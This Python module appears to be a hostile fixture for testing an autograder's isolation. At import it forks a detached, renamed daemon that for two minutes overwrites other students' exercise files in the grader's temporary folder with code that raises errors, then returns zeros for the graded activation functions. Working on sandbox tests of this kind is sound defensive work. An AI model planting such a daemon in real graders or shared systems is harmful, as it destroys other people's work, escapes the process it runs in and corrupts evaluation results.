"""Attack: at import, leave a daemon behind (fork, setsid, fork again: re-parented away
from the worker) that keeps rewriting every exercise module it can reach in the
grader's temporary folders, so that the next student graded loses points.

Bounded: the daemon stops after LIFETIME_S, and it looks only in TEMP, the
temporary folder the test gives the grader (next to __OUTSIDE__), never in
anyone else's. The module itself answers zeros.
"""

import ctypes
import fnmatch
import os
import time

import numpy as np

TOKEN = "__TOKEN__"  # the name the daemon goes by, for the test to find
PR_SET_NAME = 15
LIFETIME_S = 120
TEMP = os.path.join(os.path.dirname("__OUTSIDE__"), "tmp")
SPOILED = "def __getattr__(name):\n    raise RuntimeError('spoiled by a daemon')\n"


def _modules_in_temp() -> list[str]:
    """Exercise modules below TEMP, reached without following any link."""
    found = []
    for folder, _, files in os.walk(TEMP):
        found += [os.path.join(folder, f) for f in fnmatch.filter(files, "ex[0-9][0-9]_*.py")]
    return found


def _spoil_forever() -> None:
    end = time.monotonic() + LIFETIME_S
    while time.monotonic() < end:
        for path in _modules_in_temp():
            try:
                fd = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOFOLLOW)
            except OSError:
                continue
            os.write(fd, SPOILED.encode())
            os.close(fd)
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(PR_SET_NAME, TOKEN.encode(), 0, 0, 0)
        _spoil_forever()
    os._exit(0)
os.wait()
time.sleep(0.5)  # the daemon is up before the import ends


def _zeros(*args, **kwargs):
    return np.zeros(np.shape(args[-1]))


step = relu = sigmoid = tanh = _zeros
relu_backward = sigmoid_backward = tanh_backward = _zeros
